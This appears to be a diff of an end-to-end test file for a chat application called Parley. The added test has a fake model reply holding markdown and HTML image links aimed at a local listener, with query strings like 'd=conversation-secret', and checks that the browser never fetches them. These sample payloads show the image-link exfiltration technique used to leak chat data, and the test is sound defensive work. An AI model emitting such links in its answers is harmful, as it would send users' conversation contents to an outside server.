@@ -114,7 +114,12 @@ def _is_healthy(url: str) -> bool:
 @pytest.fixture
 def server(tmp_path: Path) -> Iterator[Server]:
     """A fresh Parley (empty database, local model) on a free port; stopped afterwards."""
-    env = _server_env(tmp_path)
+    with _serve(tmp_path, _server_env(tmp_path)) as running:
+        yield running
+
+
+@contextlib.contextmanager
+def _serve(tmp_path: Path, env: dict[str, str]) -> Iterator[Server]:
     log_path = tmp_path / "server.log"
     with log_path.open("w", encoding="utf-8") as server_log:
         subprocess.run(
@@ -302,3 +307,80 @@ def test_first_run_chat_reload_and_replay(server: Server, tmp_path: Path) -> Non
                 page.screenshot(path=SCREENSHOT)
         finally:
             browser.close()
+
+
+class _Listener:
+    """A local HTTP server that records every request: where a leaked image would go."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        seen = self.requests = []  # type: list[str]
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802 - the standard library's name
+                seen.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/png")
+                self.end_headers()
+
+            def log_message(self, *_args: object) -> None:
+                pass
+
+        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
+        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
+        self._thread.start()
+
+    def close(self) -> None:
+        self._server.shutdown()
+        self._server.server_close()
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium on PATH (make system-deps)")
+def test_an_answer_never_makes_the_browser_fetch_an_image(tmp_path: Path) -> None:
+    from fakes.anthropic_server import FakeAnthropic, Reply
+
+    listener = _Listener()
+    answer = (
+        "Here is the summary you asked for.\n\n"
+        f"![status]({listener.url}/inline?d=conversation-secret)\n\n"
+        f"![chart][leak]\n\n[leak]: {listener.url}/reference?d=secret\n\n"
+        f"<img src='{listener.url}/html?d=secret'>\n\n"
+        f"See [the report]({listener.url}/link) for more."
+    )
+    try:
+        with FakeAnthropic(default_reply=Reply(text=answer)) as fake:
+            env = _server_env(tmp_path)
+            env.update(
+                ANTHROPIC_API_KEY="sk-ant-e2e",
+                ANTHROPIC_BASE_URL=fake.base_url,
+                PARLEY_MODEL_TITLES="false",
+            )
+            with _serve(tmp_path, env) as running, sync_playwright() as p:
+                browser = p.chromium.launch(
+                    executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True
+                )
+                try:
+                    page = browser.new_page()
+                    page.set_default_timeout(PAGE_TIMEOUT_MS)
+                    page.goto(running.url)
+                    _fill_credentials(page, confirm=True)
+                    page.get_by_role("button", name="Create admin account").click()
+                    _session_cookie(page)
+                    _expect_chat_page(page)
+                    chat_input = page.get_by_test_id("stChatInputTextArea")
+                    chat_input.fill("Summarise my notes")
+                    chat_input.press("Enter")
+                    expect(_answer(page)).to_contain_text(
+                        "image not loaded: status", timeout=PAGE_TIMEOUT_MS
+                    )
+                    expect(_answer(page)).to_contain_text(f"{listener.url}/link")  # the target
+                    page.wait_for_timeout(1500)  # time for any fetch to happen
+                    assert page.locator("[data-testid='stChatMessageContent'] img").count() == 0
+                finally:
+                    browser.close()
+    finally:
+        listener.close()
+    assert listener.requests == [], f"the browser fetched {listener.requests!r}"
